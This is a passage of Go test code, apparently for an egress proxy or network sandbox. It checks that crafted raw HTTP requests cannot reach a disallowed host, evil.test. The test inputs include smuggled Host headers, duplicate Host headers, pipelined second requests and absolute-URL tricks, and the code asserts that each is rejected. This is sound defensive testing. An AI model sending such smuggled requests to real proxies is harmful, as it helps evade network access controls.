		{name: "absolute form to a granted name with an https URL", args: raw(proxy, "GET https://evil.test/ HTTP/1.1\r\nHost: api.example.test\r\n\r\n"), want: "ok: HTTP/1.1 400 Bad Request"},
		{name: "TLS without a server name on a name's listener", args: map[string]any{"what": "tls", "target": "127.77.0.1:443", "sni": "-", "ca": n.ca}, want: "denied: TLS: "},
		{name: "plain bytes on a TLS port", args: raw("api.example.test:443", "GET / HTTP/1.1\r\nHost: api.example.test\r\n\r\n"), want: "denied: "},
		{name: "a smuggled Host beside an absolute URL", args: raw(proxy, "GET http://web.example.test/ HTTP/1.1\r\nHost: evil.test\r\n\r\n"), want: "ok: HTTP/1.1 200 OK", reached: []string{"dns+2", "web+1"}},
		{name: "two Host headers", args: raw("web.example.test:80", "GET / HTTP/1.1\r\nHost: web.example.test\r\nHost: evil.test\r\n\r\n"), want: "ok: HTTP/1.1 400 Bad Request"},
		{name: "a second request to another host, transparent", args: raw("web.example.test:80", "GET / HTTP/1.1\r\nHost: web.example.test\r\n\r\nGET / HTTP/1.1\r\nHost: evil.test\r\n\r\n"), want: "ok: HTTP/1.1 200 OK", reached: []string{"dns+2", "web+1"}},
		{name: "a second request to another host, proxy", args: raw(proxy, "GET http://web.example.test/ HTTP/1.1\r\nHost: web.example.test\r\n\r\nGET http://evil.test/ HTTP/1.1\r\nHost: evil.test\r\n\r\n"), want: "ok: HTTP/1.1 200 OK", reached: []string{"dns+2", "web+1"}},
	} {
		t.Run(a.name, func(t *testing.T) {
			before := n.counts()
			got := s.try(a.args)
			if !strings.HasPrefix(got, a.want) {
				t.Errorf("%s, want %s…", got, a.want)
			}
			if strings.Count(got, "HTTP/1.1 ") > 1 {
				t.Errorf("%s: more than one answer", got)
			}
			if got := n.reachedBy(before, a.reached); !slices.Equal(got, a.reached) {
				t.Errorf("reached %v, want %v", got, a.reached)
			}
		})
	}
	s.stop()
	for _, h := range n.web.Hosts() {
		if h != "web.example.test" {
			t.Errorf("the web server was asked for Host %q: %v", h, n.web.Hosts())
		}
	}
}
